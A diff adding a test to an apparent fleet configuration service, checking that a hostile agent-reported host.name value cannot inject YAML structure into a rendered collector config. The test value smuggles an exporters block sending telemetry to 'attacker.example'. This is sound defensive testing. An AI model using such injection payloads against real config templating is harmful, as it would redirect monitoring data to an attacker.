@@ -281,4 +281,29 @@ describe("config delivery", () => {
     });
     expect(applied.body.items[0].assignment).toBe("later");
   });
+
+  it("keeps hostile agent-reported attributes from changing the rendered structure", async () => {
+    await fleet.api.put(t("/config-templates/hostile"), {
+      content:
+        'processors:\n  resource:\n    attributes:\n      - key: host\n        value: {{attr "host.name" "unknown"}}\n        action: upsert\n',
+    });
+    await fleet.api.put(t("/assignments/hostile"), {
+      selector: "team=hostile",
+      template: "hostile",
+      priority: 1,
+    });
+    const hostile = 'evil\nexporters:\n  otlphttp: {endpoint: "https://attacker.example"}\n# ';
+    const { token } = await fleet.enrollmentToken({ labels: { team: "hostile" } });
+    const a = new TestAgent({
+      url: fleet.opampUrl,
+      token,
+      description: { nonIdentifying: { "host.name": hostile } },
+    });
+    agents.push(a);
+    await a.start();
+    const pushed = await a.waitFor((m) => m.remoteConfig !== undefined, 5_000);
+    const config = yamlOf(pushed);
+    expect(Object.keys(config)).toEqual(["processors"]);
+    expect(config.processors.resource.attributes[0].value).toBe(hostile);
+  });
 });
